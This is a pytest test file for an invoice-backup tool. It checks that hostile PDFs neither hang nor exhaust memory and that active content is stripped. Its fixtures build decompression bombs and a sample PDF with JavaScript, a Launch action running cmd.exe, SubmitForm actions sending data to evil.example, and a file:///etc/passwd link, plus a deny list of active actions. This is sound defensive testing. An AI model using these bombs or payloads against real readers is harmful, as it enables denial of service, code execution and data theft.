"""Resource limits and active content: hostile documents never hang, bloat or script a backup.

Issue 7: "Resource limits with typed errors and documented defaults: a document with
an absurd page count, a stream that inflates past a limit, deeply nested or cyclic
object graphs, a page tree loop. The process must not hang or exhaust memory on any
of them. Active content is removed from the backup: document and page JavaScript,
OpenAction, Launch, SubmitForm and URI-to-file actions, embedded executables; a test
reads the backup back to prove it."
"""

from __future__ import annotations

import subprocess
import sys
import time
import tracemalloc
import zlib
from collections.abc import Iterator, Sequence
from pathlib import Path

import pytest
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, StreamObject

from invoicebackup import (
    BackupOptions,
    BackupResult,
    BadDocumentError,
    InMemoryStore,
    _pdf,
    compile_backup,
)
from invoicebackup.compile import MANIFEST_NAME
from invoicebackup.testing import text_pdf

from .pdf_craft import (
    ATTACHMENT_KEY,
    NOW,
    USER_ID,
    build_pdf,
    every_object,
    flate_bomb,
    one_attachment,
    page_count_of,
    stream,
)

CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"


def _one_page(extra: bytes = b"", *, kids: bytes = b"[3 0 R]", count: int = 1) -> list[bytes]:
    """Catalog, page tree and one page with *extra* in its dictionary."""
    return [
        CATALOG,
        b"<< /Type /Pages /Kids " + kids + b" /Count %d >>" % count,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792]" + extra + b" >>",
    ]


def _compile(data: bytes, **options: object) -> tuple[BackupResult, bytes]:
    project, store = one_attachment(data)
    result = compile_backup(
        project,
        invoice_ids=["i-1"],
        user_id=USER_ID,
        store=store,
        now=NOW,
        options=BackupOptions(**options),  # type: ignore[arg-type]
    )
    backup = store.read_bytes(result.key)
    assert page_count_of(backup) == result.page_count
    return result, backup


def _reported(result: BackupResult) -> str | None:
    """The attachment's reported code, or None when it is in the backup."""
    codes = [item.code for item in result.left_out if item.key == ATTACHMENT_KEY]
    included = [s for s in result.invoices[0].sources if s.key == ATTACHMENT_KEY]
    assert len(codes) + len(included) == 1
    return codes[0] if codes else None


# -- limits -----------------------------------------------------------------------------------


def test_the_documented_limits_are_the_defaults() -> None:
    """The limits the guarantees page documents are the options' defaults."""
    options = BackupOptions()
    assert options.max_document_pages == 10_000
    assert options.max_document_bytes == 512 * 1024 * 1024
    assert options.max_document_objects == 500_000


@pytest.mark.timeout(30)
def test_a_page_tree_with_more_pages_than_the_limit_is_too_large() -> None:
    """10,001 pages (one page object listed 10,001 times) is over the default: too_large."""
    n = 10_001
    data = build_pdf(_one_page(kids=b"[" + b" 3 0 R" * n + b"]", count=n))
    result, _ = _compile(data)
    assert _reported(result) == "too_large"
    with pytest.raises(BadDocumentError) as caught:
        _compile(data, on_bad_document="fail")
    assert (caught.value.key, caught.value.code) == (ATTACHMENT_KEY, "too_large")


def test_max_document_pages_reports_a_longer_document_as_too_large() -> None:
    """A three-page document with max_document_pages=2 is too_large, with the count in words."""
    result, _ = _compile(text_pdf(["1", "2", "3"]), max_document_pages=2)
    assert _reported(result) == "too_large"
    assert "3 pages" in result.left_out[0].reason
    result, _ = _compile(text_pdf(["1", "2", "3"]), max_document_pages=3)
    assert _reported(result) is None


def test_a_page_count_that_lies_is_never_believed() -> None:
    """/Count claiming a billion pages over one real page: the backup holds the real page."""
    result, _ = _compile(build_pdf(_one_page(count=999_999_999)))
    if _reported(result) is None:
        (source,) = [s for s in result.invoices[0].sources if s.key == ATTACHMENT_KEY]
        assert source.pages == 1
    assert result.page_count == (result.manifest.cover_last_page or 0) + 2


def test_max_document_bytes_reports_a_bigger_document_as_too_large() -> None:
    """A document over max_document_bytes is too_large before any parsing."""
    data = text_pdf(["a page"])
    result, _ = _compile(data, max_document_bytes=len(data) - 1)
    assert _reported(result) == "too_large"


@pytest.fixture(scope="module")
def bomb() -> bytes:
    """A few hundred bytes that inflate to 256 MiB through two Flate passes."""
    return flate_bomb(inflated_mib=256)


def _traced(data: bytes, **options: object) -> tuple[BackupResult, float, int]:
    """Compile *data*; the result, the seconds taken and the peak traced memory in MiB."""
    tracemalloc.start()
    start = time.perf_counter()
    try:
        result, _ = _compile(data, **options)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    return result, time.perf_counter() - start, peak >> 20


@pytest.mark.timeout(60)
def test_a_flate_bomb_in_page_content_is_copied_without_being_inflated(bomb: bytes) -> None:
    """A content stream inflating to 256 MiB is copied as is: fast, in little memory."""
    assert len(bomb) < 64 * 1024
    data = build_pdf(
        [*_one_page(b" /Contents 4 0 R"), stream(b"/Filter [/FlateDecode /FlateDecode]", bomb)]
    )
    result, seconds, peak_mib = _traced(data)
    assert _reported(result) is None
    assert seconds < 10
    assert peak_mib < 32


def _object_stream_bomb(inflated_mib: int) -> bytes:
    """A PDF 1.5 file whose page resources live in an object stream inflating to *inflated_mib*."""
    header = b"5 0 "
    inner = zlib.compressobj(9)
    parts = [inner.compress(header + b"<< /ProcSet [/PDF] >>")]
    parts += [inner.compress(bytes(1 << 20)) for _ in range(inflated_mib)]
    parts.append(inner.flush())
    packed = zlib.compress(b"".join(parts), 9)
    objects = [
        *_one_page(b" /Resources 5 0 R"),
        stream(b"/Type /ObjStm /N 1 /First %d /Filter [/FlateDecode /FlateDecode]" % 4, packed),
    ]
    return _xref_stream_file(objects, compressed=[(4, 0)])


def _xref_stream_file(
    objects: list[bytes], *, compressed: Sequence[tuple[int, int]] = (), padding_mib: int = 0
) -> bytes:
    """*objects* with a cross-reference stream, then (in it) *compressed* ``(stream, index)``.

    With *padding_mib*, the table's data is followed by that many MiB of zeros and
    compressed through two Flate passes: a few KiB that inflate past the limit.
    """
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)

    def row(kind: int, field: int, generation: int) -> bytes:
        return bytes([kind]) + field.to_bytes(4, "big") + generation.to_bytes(2, "big")

    rows = [
        row(0, 0, 65535),
        *(row(1, o, 0) for o in offsets),
        *(row(2, number, index) for number, index in compressed),
        row(1, xref, 0),
    ]
    table = b"".join(rows)
    size = len(rows)
    entries = b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R" % size
    if padding_mib:
        inner = zlib.compressobj(9)
        parts = [inner.compress(table)]
        parts += [inner.compress(bytes(1 << 20)) for _ in range(padding_mib)]
        parts.append(inner.flush())
        table = zlib.compress(b"".join(parts), 9)
        entries += b" /Filter [/FlateDecode /FlateDecode]"
    out += b"%d 0 obj\n" % size + stream(entries, table)
    out += b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def _xref_stream_bomb(inflated_mib: int) -> bytes:
    """A one-page file whose cross-reference stream inflates to *inflated_mib* MiB."""
    return _xref_stream_file(_one_page(), padding_mib=inflated_mib)


#: Run in a fresh process so that its peak resident memory is the compile's alone
#: (the engines' C and C++ allocations included, which tracemalloc does not see).
_MEASURE = """
import resource, sys
from tests.pdf_craft import NOW, USER_ID, one_attachment
from invoicebackup import BackupOptions, compile_backup
data = open(sys.argv[1], "rb").read()
project, store = one_attachment(data)
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
result = compile_backup(project, invoice_ids=["i-1"], user_id=USER_ID, store=store, now=NOW,
                        options=BackupOptions(repair=sys.argv[2] == "1"))
after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
codes = [i.code for i in result.left_out if i.key == "docs/attachment.pdf"]
print((after - before) // 1024, codes[0] if codes else "included")
"""


def _peak_growth_mib(data: bytes, tmp_path: Path, *, repair: bool) -> tuple[int, str]:
    """Compile *data* in a child process: its peak memory growth in MiB, and the verdict."""
    source = tmp_path / "bomb.pdf"
    source.write_bytes(data)
    done = subprocess.run(
        [sys.executable, "-c", _MEASURE, str(source), "1" if repair else "0"],
        cwd=Path(__file__).resolve().parents[1],
        capture_output=True,
        text=True,
        timeout=120,
        check=True,
    )
    growth, verdict = done.stdout.split()
    return int(growth), verdict


@pytest.mark.timeout(150)
@pytest.mark.parametrize(
    "repair",
    [
        pytest.param(False, id="pypdf"),
        pytest.param(True, id="repair"),
    ],
)
def test_an_object_stream_that_inflates_past_the_limit_is_never_decoded_whole(
    repair: bool, tmp_path: Path
) -> None:
    """An object stream inflating to 256 MiB is reported, and memory grows far less than that."""
    data = _object_stream_bomb(256)
    assert len(data) < 64 * 1024
    growth, verdict = _peak_growth_mib(data, tmp_path, repair=repair)
    assert growth < 200
    assert verdict != "included"


@pytest.mark.timeout(150)
@pytest.mark.parametrize(
    "repair",
    [
        pytest.param(False, id="pypdf"),
        pytest.param(True, id="repair"),
    ],
)
def test_a_cross_reference_stream_that_inflates_past_the_limit_is_never_decoded_whole(
    repair: bool, tmp_path: Path
) -> None:
    """A cross-reference stream inflating to 256 MiB is too_large; memory grows far less.

    Neither pypdf nor the repair step (qpdf, which has no limit of its own) inflates it.
    """
    data = _xref_stream_bomb(256)
    assert len(data) < 64 * 1024
    growth, verdict = _peak_growth_mib(data, tmp_path, repair=repair)
    assert growth < 200
    assert verdict == "too_large"


@pytest.mark.timeout(150)
def test_a_damaged_file_whose_object_stream_inflates_past_the_limit_is_not_repaired(
    tmp_path: Path,
) -> None:
    """A bomb pypdf never reaches (the file is damaged before) is not inflated by the repair.

    Two bytes fewer in the page move every later object off its offset, so pypdf cannot
    find the catalog and the repair step would run qpdf, which inflates the object stream
    whole: it is refused as too_large first.
    """
    data = _object_stream_bomb(256).replace(b"[0 0 612 792]", b"[0 0 612 /x]", 1)
    growth, verdict = _peak_growth_mib(data, tmp_path, repair=True)
    assert growth < 200
    assert verdict == "too_large"


def test_an_object_stream_that_inflates_past_the_limit_is_too_large() -> None:
    """A stream inflating past the limit is too_large, like every other limit."""
    result, _, _ = _traced(_object_stream_bomb(96), repair=False)
    assert _reported(result) == "too_large"


@pytest.mark.timeout(60)
@pytest.mark.parametrize("indirect", [False, True], ids=["in-the-page", "own-object"])
def test_a_long_literal_string_costs_a_few_times_its_length(indirect: bool, tmp_path: Path) -> None:
    """A page holding one 16 MiB literal string is copied in memory a few times its size.

    Decoded as text, it took fourteen times its length at the peak.
    """
    mib = 16
    string = b"(" + b"a" * (mib << 20) + b")"
    if indirect:
        data = build_pdf([*_one_page(b" /X 4 0 R"), string])
    else:
        data = build_pdf(_one_page(b" /X " + string))
    growth, verdict = _peak_growth_mib(data, tmp_path, repair=False)
    assert verdict == "included"
    assert growth < 5 * mib


def _chain(count: int) -> list[bytes]:
    """One page whose resources start a chain of *count* dictionaries, each naming the next."""
    links = [b"<< /Next %d 0 R >>" % (number + 1) for number in range(4, 3 + count)]
    return [*_one_page(b" /Resources 4 0 R"), *links, b"<< >>"]


@pytest.mark.timeout(60)
@pytest.mark.parametrize("table", ["classic", "stream"])
def test_a_file_listing_more_objects_than_the_limit_is_too_large_before_they_are_built(
    table: str,
) -> None:
    """More objects in the cross-reference table than max_objects: too_large when opened.

    Not after building and copying as many objects as the limit allows.
    """
    objects = _chain(30_000)
    data = build_pdf(objects) if table == "classic" else _xref_stream_file(objects)
    start = time.perf_counter()
    with pytest.raises(BadDocumentError) as caught:
        _pdf.open_pdf(data, key="k", filename="f", limits=_pdf.Limits(max_objects=10_000))
    assert caught.value.code == "too_large"
    assert "objects" in caught.value.reason
    assert "10000" in caught.value.reason
    assert time.perf_counter() - start < 10


@pytest.mark.parametrize("table", ["classic", "stream"])
def test_max_document_objects_bounds_what_one_document_may_list(table: str) -> None:
    """A document listing more objects than max_document_objects is too_large, the bound named.

    The same document under a bound it fits is included: the option is what decides.
    """
    objects = _chain(300)
    data = build_pdf(objects) if table == "classic" else _xref_stream_file(objects)
    result, _ = _compile(data, max_document_objects=250)
    assert _reported(result) == "too_large"
    (entry,) = [item for item in result.left_out if item.key == ATTACHMENT_KEY]
    assert "250 objects" in entry.reason
    result, _ = _compile(data, max_document_objects=400)
    assert _reported(result) is None


@pytest.mark.parametrize("bad", [0, -1])
def test_max_document_objects_must_be_positive(bad: int) -> None:
    """Not a positive count: refused when the options are made, naming the option."""
    with pytest.raises(ValueError, match="max_document_objects"):
        BackupOptions(max_document_objects=bad)


def _deep_page_tree(depth: int) -> bytes:
    """One page under *depth* nested page tree nodes."""
    objects = [CATALOG]
    for level in range(depth):
        parent = b" /Parent %d 0 R" % (level + 1) if level else b""
        objects.append(b"<< /Type /Pages /Kids [%d 0 R] /Count 1%s >>" % (level + 3, parent))
    objects.append(b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 612 792] >>" % (depth + 1))
    return build_pdf(objects)


def _declared_size(size: int) -> bytes:
    """One page whose cross-reference table declares *size* entries in a file far smaller."""
    data = build_pdf(_one_page())
    return data.replace(b"xref\n0 4\n", b"xref\n0 %d\n" % size, 1)


@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    ("data", "named"),
    [
        pytest.param(_deep_page_tree(200), ("page tree", "deeper"), id="page-tree-depth"),
        pytest.param(
            build_pdf(_one_page(kids=b"[" + b" 3 0 R" * 100_001 + b"]", count=100_001)),
            ("limit",),
            id="page-tree-entries",
        ),
        pytest.param(_declared_size(99_999_999), ("cross-reference", "objects"), id="size"),
        pytest.param(_object_stream_bomb(96), ("inflates",), id="object-stream"),
        pytest.param(_xref_stream_bomb(96), ("cross-reference stream", "inflates"), id="xref"),
    ],
)
def test_each_limit_is_reported_with_its_own_reason(data: bytes, named: tuple[str, ...]) -> None:
    """The reason of a too_large document names the limit it hit, not another one.

    A page tree too deep or too wide, or a table declaring more entries than the file
    holds, is no stream inflating past the decompression limit.
    """
    result, _ = _compile(data, repair=False, max_document_pages=200_000)
    (entry,) = [item for item in result.left_out if item.key == ATTACHMENT_KEY]
    assert entry.code == "too_large"
    assert all(word in entry.reason for word in named), entry.reason
    assert ("inflates" in entry.reason) == ("inflates" in named), entry.reason


def _nested(kind: str, depth: int) -> bytes:
    opening, closing = (b"[", b" ]") if kind == "array" else (b"<< /A ", b" >>")
    return opening * depth + closing * depth


@pytest.mark.timeout(60)
@pytest.mark.parametrize("kind", ["array", "dict"])
@pytest.mark.parametrize("depth", [151, 1_000, 100_000])
def test_deep_nesting_is_too_large_without_hanging(kind: str, depth: int) -> None:
    """Arrays or dictionaries nested deeper than the limit (150): too_large, quickly."""
    start = time.perf_counter()
    result, _ = _compile(build_pdf(_one_page(b" /X " + _nested(kind, depth))))
    assert _reported(result) == "too_large"
    assert time.perf_counter() - start < 20


@pytest.mark.parametrize("kind", ["array", "dict"])
def test_nesting_within_the_limit_is_included(kind: str) -> None:
    """Nesting up to the limit is legitimate and the page goes in."""
    result, _ = _compile(build_pdf(_one_page(b" /X " + _nested(kind, 140))))
    assert _reported(result) is None


@pytest.mark.timeout(30)
def test_cyclic_objects_outside_the_page_tree_are_walked_once() -> None:
    """Resources that reference themselves do not loop: the page goes in."""
    objects = [*_one_page(b" /Resources 4 0 R"), b"<< /Me 4 0 R /Both [4 0 R 5 0 R] >>", b"[4 0 R]"]
    result, _ = _compile(build_pdf(objects))
    assert _reported(result) is None


@pytest.mark.timeout(30)
@pytest.mark.parametrize(
    "objects",
    [
        pytest.param(_one_page(kids=b"[3 0 R 2 0 R]", count=2), id="root-lists-itself"),
        pytest.param(
            [
                CATALOG,
                b"<< /Type /Pages /Kids [4 0 R] /Count 2 >>",
                b"<< /Type /Page /Parent 4 0 R /MediaBox [0 0 612 792] >>",
                b"<< /Type /Pages /Parent 2 0 R /Kids [3 0 R 2 0 R] /Count 2 >>",
            ],
            id="kid-lists-its-ancestor",
        ),
        pytest.param(
            [
                CATALOG,
                b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
                b"<< /Type /Page /Parent 4 0 R /MediaBox [0 0 612 792] >>",
                b"<< /Type /Pages /Parent 2 0 R /Kids [4 0 R] /Count 1 >>",
            ],
            id="node-lists-itself",
        ),
    ],
)
def test_a_page_tree_loop_is_damaged_without_hanging(objects: list[bytes]) -> None:
    """/Kids pointing back to an ancestor (or itself): damaged, never a hang."""
    result, _ = _compile(build_pdf(objects))
    assert _reported(result) == "damaged"


# -- active content ---------------------------------------------------------------------------

SCRIPT = "app.alert('pwned-by-invoice');"
EXECUTABLE = b"MZ\x90\x00 this would be a Windows program"

#: Actions that run code, leave the document or send data.
ACTIVE_ACTIONS = frozenset(
    {
        "/JavaScript",
        "/Launch",
        "/SubmitForm",
        "/ImportData",
        "/GoToR",
        "/GoToE",
        "/Rendition",
        "/Movie",
        "/Sound",
        "/RichMediaExecute",
    }
)


def _active_pdf() -> bytes:
    """One page carrying every kind of active content the backup must not carry."""
    js = b"(" + SCRIPT.encode() + b")"
    embedded = stream(b"/Type /EmbeddedFile /Subtype /application#2Fx-msdownload", EXECUTABLE)
    objects = [
        # 1 catalog: document JavaScript, OpenAction, catalog AA, embedded files, a form.
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /AA << /WC 4 0 R /DS 4 0 R >>"
        b" /Names << /JavaScript << /Names [(init) 4 0 R] >>"
        b" /EmbeddedFiles << /Names [(setup.exe) 5 0 R] >> >>"
        b" /AcroForm << /Fields [10 0 R] >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        # 3 the page: page AA and five annotations.
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /AA << /O 4 0 R /C 4 0 R >>"
        b" /Annots [7 0 R 8 0 R 9 0 R 10 0 R 11 0 R 12 0 R] >>",
        b"<< /Type /Action /S /JavaScript /JS " + js + b" >>",
        b"<< /Type /Filespec /F (setup.exe) /UF (setup.exe) /EF << /F 6 0 R >> >>",
        embedded,
        b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720]"
        b" /A << /S /Launch /F (calc.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>",
        b"<< /Type /Annot /Subtype /Link /Rect [72 660 300 680]"
        b" /A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >> >>",
        b"<< /Type /Annot /Subtype /Link /Rect [72 620 300 640]"
        b" /A << /S /URI /URI (file:///etc/passwd) >> >>",
        # 10 a push button field/widget with actions of its own.
        b"<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) /P 3 0 R"
        b" /Rect [72 580 300 600] /A << /S /SubmitForm /F (https://evil.example/) >>"
        b" /AA << /U 4 0 R /Fo 4 0 R >> >>",
        b"<< /Type /Annot /Subtype /FileAttachment /Rect [72 540 90 560] /FS 5 0 R >>",
        # 12 a link moving inside the document, chaining to JavaScript.
        b"<< /Type /Annot /Subtype /Link /Rect [72 500 300 520]"
        b" /A << /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >> >>",
    ]
    return build_pdf(objects)


def _active_content_in(backup: bytes) -> Iterator[str]:
    """Every piece of active content found in any object of *backup*, described."""
    for obj in every_object(backup):
        is_file = isinstance(obj, StreamObject) and obj.get("/Type") == "/EmbeddedFile"
        if is_file and EXECUTABLE in obj.get_data():
            yield "the embedded executable"
        if isinstance(obj, (str, bytes)) and SCRIPT in str(obj):
            yield f"the script text in {obj!r}"
        if not isinstance(obj, DictionaryObject):
            continue
        if obj.get("/S") in ACTIVE_ACTIONS:
            yield f"a {obj['/S']} action"
        for key in ("/JS", "/AA", "/OpenAction"):
            if key in obj:
                yield f"a {key} entry"
        if "/S" in obj and "/Next" in obj:  # an action chain (outline items have /Next too)
            yield "a /Next entry"
        if obj.get("/Subtype") == "/FileAttachment":
            yield "a file attachment annotation"
        uri = obj.get("/URI")
        if obj.get("/S") == "/URI" and str(uri).strip().lower().startswith("file:"):
            yield f"a URI action to {uri}"
        names = obj.get("/Names")
        names = names.get_object() if names is not None else None
        if isinstance(names, DictionaryObject) and "/JavaScript" in names:
            yield "a document JavaScript name tree"


def _embedded_file_names(backup: bytes) -> list[str]:
    found = []
    for obj in every_object(backup):
        if isinstance(obj, DictionaryObject) and "/EmbeddedFiles" in obj:
            tree = obj["/EmbeddedFiles"].get_object()
            assert isinstance(tree, DictionaryObject)
            names = tree.get("/Names", ArrayObject())
            found += [str(names[i]) for i in range(0, len(names), 2)]
    return found


def test_the_active_sample_is_hostile_before_compiling() -> None:
    """The checker sees every piece of active content in the source itself (it can fail)."""
    found = set(_active_content_in(_active_pdf()))
    for expected in (
        "a /JavaScript action",
        "a /Launch action",
        "a /SubmitForm action",
        "a URI action to file:///etc/passwd",
        "a /AA entry",
        "a /OpenAction entry",
        "a /Next entry",
        "a file attachment annotation",
        "a document JavaScript name tree",
        "the embedded executable",
    ):
        assert expected in found


@pytest.mark.parametrize("manifest", [False, True], ids=["bare", "with-manifest"])
def test_the_backup_keeps_the_page_but_no_code_launch_submit_or_embedded_file(
    manifest: bool,
) -> None:
    """Document/page JavaScript, OpenAction, AA, Launch, SubmitForm, embedded files: all gone."""
    result, backup = _compile(_active_pdf(), embed_manifest=manifest)
    assert _reported(result) is None
    found = {f for f in _active_content_in(backup) if "URI action to file:" not in f}
    assert found == set()
    assert _embedded_file_names(backup) == ([MANIFEST_NAME] if manifest else [])
    (source,) = [s for s in result.invoices[0].sources if s.key == ATTACHMENT_KEY]
    assert source.removed, "what was removed is reported"


def test_links_inside_the_document_survive_without_their_chained_script() -> None:
    """The GoTo link stays (it moves inside the backup); only its /Next chain is cut."""
    _, backup = _compile(_active_pdf(), embed_manifest=False)
    links = [
        obj
        for obj in every_object(backup)
        if isinstance(obj, DictionaryObject) and obj.get("/Subtype") == NameObject("/Link")
    ]
    actions = [link["/A"].get_object() for link in links if "/A" in link]
    gotos = [
        action
        for action in actions
        if isinstance(action, DictionaryObject) and action.get("/S") == NameObject("/GoTo")
    ]
    assert len(gotos) == 1
    assert "/Next" not in gotos[0]


def test_a_uri_action_to_a_local_file_is_removed() -> None:
    """A link whose URI opens a local file (file:) does not reach the backup."""
    _, backup = _compile(_active_pdf(), embed_manifest=False)
    assert [f for f in _active_content_in(backup) if "URI action to file:" in f] == []


def test_the_active_sample_is_removed_when_it_is_the_invoice_itself() -> None:
    """Active content is removed from the invoice's own PDF too, not only from attachments."""
    project, _ = one_attachment(b"")
    store = InMemoryStore({"docs/invoice.pdf": _active_pdf(), ATTACHMENT_KEY: text_pdf(["x"])})
    result = compile_backup(
        project,
        invoice_ids=["i-1"],
        user_id=USER_ID,
        store=store,
        now=NOW,
        options=BackupOptions(embed_manifest=False),
    )
    backup = store.read_bytes(result.key)
    found = {f for f in _active_content_in(backup) if "URI action to file:" not in f}
    assert found == set()
    assert page_count_of(backup) == result.page_count == (result.manifest.cover_last_page or 0) + 2
